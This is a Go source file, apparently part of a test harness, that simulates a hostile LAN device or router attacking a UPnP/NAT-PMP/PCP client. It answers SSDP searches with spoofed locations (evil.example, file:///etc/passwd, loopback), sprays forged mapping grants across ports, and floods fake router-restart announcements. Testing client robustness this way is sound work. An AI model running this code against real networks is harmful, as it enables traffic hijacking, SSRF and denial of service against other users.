//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"
)

// hostile is a device on the LAN, or a router, that means harm. It prints "ready" when it has begun.
//
// From a neighbour's PC: elsewhere answers searches first, with descriptions on other hosts; forge
// answers PCP and NAT-PMP requests that it has not seen; epochs announces starts of the router. From
// the router: gigabyte, strings, reset and hang are what its descriptions turn out to be.
func hostile(ctx context.Context, args []string) error {
	s := scene{mode: args[0]}
	for i, a := range []*netip.Addr{&s.own, &s.gateway, &s.victim} {
		var err error
		if *a, err = netip.ParseAddr(args[i+1]); err != nil {
			return err
		}
	}
	switch s.mode {
	case "elsewhere":
		return s.elsewhere(ctx)
	case "forge":
		return s.forge(ctx)
	case "epochs":
		return s.epochs(ctx)
	case "gigabyte", "strings", "reset", "hang":
		return s.trap(ctx)
	}
	return fmt.Errorf("hostile %s? elsewhere, forge, epochs, gigabyte, strings, reset or hang", s.mode)
}

// scene is who does what to whom.
type scene struct {
	mode                 string
	own, gateway, victim netip.Addr
}

// Groups and ports of what is attacked.
var (
	ssdpGroup = netip.MustParseAddrPort("239.255.255.250:1900")
	pmpGroup  = netip.MustParseAddrPort("224.0.0.1:5350")
)

const pmpPort = 5351

// elsewhere answers each search at once: in its own name and in the router's, with descriptions on
// itself, on the internet, and on the PC.
func (s scene) elsewhere(ctx context.Context) error {
	forger, err := newForger(s.own)
	if err != nil {
		return err
	}
	defer forger.close()
	plain, err := net.ListenUDP("udp4", nil)
	if err != nil {
		return err
	}
	defer plain.Close()
	locations := []string{"http://" + s.own.String() + ":49152/d.xml", "http://11.77.0.9:49152/d.xml", "http://127.0.0.1:27880/", "http://evil.example/d.xml",
		"http://[::ffff:" + s.own.String() + "]:49152/d.xml", "http://" + s.gateway.String() + "@" + s.own.String() + ":49152/d.xml", "file:///etc/passwd"}
	return s.hearSearches(ctx, func(from netip.AddrPort) {
		for _, l := range locations {
			_, _ = plain.WriteToUDPAddrPort(searchAnswer(l), from)
			forger.send(netip.AddrPortFrom(s.gateway, ssdpGroup.Port()), from, searchAnswer(l))
		}
	})
}

// hearSearches calls answer for each search that is heard.
func (s scene) hearSearches(ctx context.Context, answer func(from netip.AddrPort)) error {
	ifi, err := interfaceOf(s.own)
	if err != nil {
		return err
	}
	c, err := net.ListenMulticastUDP("udp4", ifi, net.UDPAddrFromAddrPort(ssdpGroup))
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, func() { c.Close() })()
	fmt.Println("ready")
	buf := make([]byte, datagram)
	for {
		n, from, err := c.ReadFromUDPAddrPort(buf)
		if ctx.Err() != nil {
			return nil
		}
		if err != nil {
			return err
		}
		if from = netip.AddrPortFrom(from.Addr().Unmap(), from.Port()); from.Addr() == s.victim && n > 8 && string(buf[:8]) == "M-SEARCH" {
			answer(from)
		}
	}
}

func searchAnswer(location string) []byte {
	return fmt.Appendf(nil, "HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nEXT:\r\nLOCATION: %s\r\nSERVER: x\r\n"+
		"ST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nUSN: uuid:1::urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n\r\n", location)
}

// forge sends answers to every port from which a request may have come: NAT-PMP and PCP in its own
// name, PCP in the router's, which the nonce gives away. A round takes some seconds.
func (s scene) forge(ctx context.Context) error {
	forger, err := newForger(s.own)
	if err != nil {
		return err
	}
	defer forger.close()
	fmt.Println("ready")
	for port := uint16(32768); ctx.Err() == nil; port += 8 {
		port = max(port, 32768)
		for i := range uint16(8) {
			to := netip.AddrPortFrom(s.victim, port+i)
			forger.send(netip.AddrPortFrom(s.own, pmpPort), to, natpmpGrant())
			forger.send(netip.AddrPortFrom(s.own, pmpPort), to, pcpGrant())
			forger.send(netip.AddrPortFrom(s.gateway, pmpPort), to, pcpGrant())
		}
		time.Sleep(2 * time.Millisecond)
	}
	return nil
}

// natpmpGrant says yes to a mapping, to another external port (RFC 6886 section 3.3).
func natpmpGrant() []byte {
	b := []byte{0, 129, 0, 0}
	b = binary.BigEndian.AppendUint32(b, rand.Uint32()) // epoch
	b = binary.BigEndian.AppendUint16(b, 27886)
	b = binary.BigEndian.AppendUint16(b, 6666)
	return binary.BigEndian.AppendUint32(b, 3600)
}

// pcpGrant does the same by PCP, with a nonce that nobody has asked with (RFC 6887 section 11.1).
func pcpGrant() []byte {
	b := make([]byte, 60)
	b[0], b[1] = 2, 129
	binary.BigEndian.PutUint32(b[4:], 3600)
	binary.BigEndian.PutUint32(b[8:], rand.Uint32())
	binary.BigEndian.PutUint64(b[24:], rand.Uint64())
	b[36] = 17
	binary.BigEndian.PutUint16(b[40:], 27886)
	binary.BigEndian.PutUint16(b[42:], 6666)
	copy(b[54:], []byte{0xff, 0xff, 6, 6, 6, 6})
	return b
}

// epochs tells a thousand times a second that the router has started, or gone, by all protocols, in
// its own name and in the router's.
func (s scene) epochs(ctx context.Context) error {
	forger, err := newForger(s.own)
	if err != nil {
		return err
	}
	defer forger.close()
	fmt.Println("ready")
	tick := time.NewTicker(4 * time.Millisecond)
	defer tick.Stop()
	for ctx.Err() == nil {
		for _, from := range []netip.Addr{s.own, s.gateway} {
			forger.send(netip.AddrPortFrom(from, pmpPort), pmpGroup, announcement())
			forger.send(netip.AddrPortFrom(from, ssdpGroup.Port()), ssdpGroup, notification(s.gateway))
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
		}
	}
	return nil
}

// announcement is one of NAT-PMP or PCP with an epoch at random.
func announcement() []byte {
	if rand.IntN(2) == 0 {
		b := []byte{0, 128, 0, 0}
		b = binary.BigEndian.AppendUint32(b, rand.Uint32())
		return append(b, 6, 6, 6, byte(rand.IntN(256)))
	}
	b := make([]byte, 24)
	b[0], b[1] = 2, 128
	binary.BigEndian.PutUint32(b[8:], rand.Uint32())
	return b
}

func notification(gateway netip.Addr) []byte {
	kind := []string{"ssdp:alive", "ssdp:byebye", "ssdp:update"}[rand.IntN(3)]
	return fmt.Appendf(nil, "NOTIFY * HTTP/1.1\r\nHOST: %s\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: http://%s:%d/d.xml\r\nNT: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"+
		"NTS: %s\r\nUSN: uuid:%x::urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nBOOTID.UPNP.ORG: %d\r\n\r\n", ssdpGroup, gateway, 1024+rand.IntN(60000), kind, rand.Uint64(), rand.Uint32())
}

func interfaceOf(a netip.Addr) (*net.Interface, error) {
	all, err := net.Interfaces()
	if err != nil {
		return nil, err
	}
	for _, ifi := range all {
		addrs, _ := ifi.Addrs() // one that has gone has none
		for _, have := range addrs {
			if p, err := netip.ParsePrefix(have.String()); err == nil && p.Addr() == a {
				return &ifi, nil
			}
		}
	}
	return nil, fmt.Errorf("no interface has the address %s", a)
}
